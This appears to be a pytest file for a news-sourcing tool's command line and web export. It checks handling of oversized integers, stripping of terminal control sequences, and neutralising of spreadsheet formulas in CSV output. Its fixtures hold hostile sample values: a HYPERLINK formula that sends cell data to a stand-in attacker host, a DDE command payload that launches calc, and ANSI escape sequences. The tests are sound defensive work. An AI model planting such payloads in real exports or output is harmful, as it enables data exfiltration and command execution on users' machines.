"""The command line against the outside probe of issue 14: integers past 2^63 (item 4), terminal
control sequences from article text (item 5), spreadsheet formulas in CSV exports (item 6).  The
CLI runs as a real process on both backends; the hostile articles are invented."""

from __future__ import annotations

import csv
import io
import json

import pytest
from fastapi.testclient import TestClient
from test_web_support import TEXT, make_record

from sourcebook.export import csv_cell
from sourcebook.store import Store
from sourcebook.terminal import json_text, strip_controls
from sourcebook.web import create_app

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")
HUGE = "99999999999999999999"
ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x9b31m\x90dcs\x9c\x7f"
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\tleading tab", "\rleading return"]


@pytest.fixture
def hostile(db_url):
    """Articles whose titles and text carry control sequences and formulas (invented)."""
    with Store(db_url) as st:
        st.write(make_record(TEXT + f"\n\nInvented {ESCAPES} tail.", title=f"Cleared {ESCAPES} title",
                             url="https://www.example.org/esc"))
        for i, f in enumerate(FORMULAS):
            st.write(make_record(f"{f} " + TEXT + f" {i}", title=f, url=f"https://www.example.org/f{i}"))
    return db_url


def _no_controls(out: str) -> None:
    bad = [c for c in out if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]
    assert not bad, sorted(set(bad))


# --------------------------------------------------------------------------- item 4


@pytest.mark.parametrize("args", [["sources", "--limit", HUGE], ["quotes", "--limit", HUGE], ["counts", "--limit",
                                                                                              HUGE],
                                  ["events", "--limit", HUGE], ["places", "--limit", HUGE], ["dates", "--limit", HUGE],
                                  ["claims", "--min-citations", HUGE], ["claims", "--limit", HUGE],
                                  ["series", "--min-claims", HUGE], ["search", "x", "--limit", HUGE],
                                  ["report", "--charts", HUGE], ["ingest", "x", "--batch-size", HUGE],
                                  ["extract", "x", "--max-mb", "1e300"]])
def test_integers_past_2_63_are_one_line_errors(cli, tmp_path, args):
    db = tmp_path / "x.db"
    Store(str(db)).close()
    extra = ["--db", str(db)] if args[0] not in ("extract",) else []
    proc = cli(*args, *extra)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr and "Invalid value" in proc.stderr, proc.stderr


# --------------------------------------------------------------------------- item 5


def test_strip_controls_keeps_text_and_lines():
    assert strip_controls(f"a{ESCAPES}b\n\tc") == "a[2J]0;pwned31mdcsb\n\tc"
    assert json.loads(json_text({"t": ESCAPES})) == {"t": ESCAPES}
    assert "\x9b" not in json_text({"t": ESCAPES}) and "\\u009b" in json_text({"t": ESCAPES})


@pytest.mark.parametrize("cmd", [["sources"], ["quotes"], ["counts"], ["search", "Invented"], ["search", "Cleared"]])
def test_query_tables_print_no_control_characters(cli, hostile, cmd):
    proc = cli(*cmd, "--db", hostile)
    assert proc.returncode == 0, proc.stderr
    _no_controls(proc.stdout + proc.stderr)
    assert "Cleared" in proc.stdout or "Invented" in proc.stdout or "Okafor" in proc.stdout


def test_json_output_keeps_the_exact_text(cli, hostile):
    proc = cli("search", "Cleared", "--db", hostile, "--json")
    assert "\x9b" not in proc.stdout and "\x7f" not in proc.stdout
    assert ESCAPES in json.loads(proc.stdout)["articles"][0]["title"]  # stored and printed data unchanged
    with Store(hostile, create=False) as st:
        assert any(ESCAPES in (r["title"] or "") for b in st.iter_rows("articles") for r in b)


def test_extract_table_and_messages_print_no_control_characters(cli, tmp_path):
    path = tmp_path / f"name{ESCAPES[:4]}.txt"
    path.write_text(f'Invented. {ESCAPES} "We will stay {ESCAPES} here," the commander said on Monday in Idlib, '
                    "officials said. " + "The town was quiet after the fighting, residents said. " * 6 + "\n")
    proc = cli("extract", path, "--format", "table")
    assert proc.returncode == 0, proc.stderr
    _no_controls(proc.stdout)
    assert "We will stay" in proc.stdout
    proc = cli("extract", tmp_path / f"missing{ESCAPES}.txt")
    assert proc.returncode == 1
    _no_controls(proc.stderr)


# --------------------------------------------------------------------------- item 6


def test_csv_cell_neutralises_formulas():
    for f in FORMULAS:
        assert csv_cell(f) == "'" + f
    assert csv_cell(-5) == -5 and csv_cell(2.5) == 2.5 and csv_cell(True) == "true" and csv_cell(None) == ""
    assert csv_cell("Okafor said =1") == "Okafor said =1" and csv_cell({"a": 1}) == '{"a": 1}'


def _formula_cells(rows: list[dict]) -> list[str]:
    return [v for r in rows for v in r.values() if v and v[0] in "=+-@\t\r"]


def test_cli_export_neutralises_formulas(cli, hostile, tmp_path):
    proc = cli("export", "--db", hostile, "--out", tmp_path / "out")
    assert proc.returncode == 0, proc.stderr
    for table in ("articles", "sources", "quotes", "counts"):
        rows = list(csv.DictReader(open(tmp_path / "out" / f"{table}.csv", encoding="utf-8", newline="")))
        assert rows and not _formula_cells(rows), table
    titles = {r["title"] for r in csv.DictReader(open(tmp_path / "out" / "articles.csv", encoding="utf-8", newline=""))}
    assert {"'" + f for f in FORMULAS} <= titles
    proc = cli("export", "--db", hostile, "--out", tmp_path / "j", "--format", "jsonl", "--table", "articles")
    exact = {json.loads(line)["title"] for line in open(tmp_path / "j" / "articles.jsonl", encoding="utf-8")}
    assert set(FORMULAS) <= exact  # JSON Lines keeps the exact values


def test_web_export_neutralises_formulas(hostile):
    with Store(hostile, create=False) as st:
        c = TestClient(create_app(store=st, load_ledger=False), base_url="http://127.0.0.1")
        for table in ("articles", "quotes"):
            for raw in ("", "?raw=1"):
                rows = list(csv.DictReader(io.StringIO(c.get(f"/export/{table}.csv{raw}").text)))
                assert rows and not _formula_cells(rows), (table, raw)
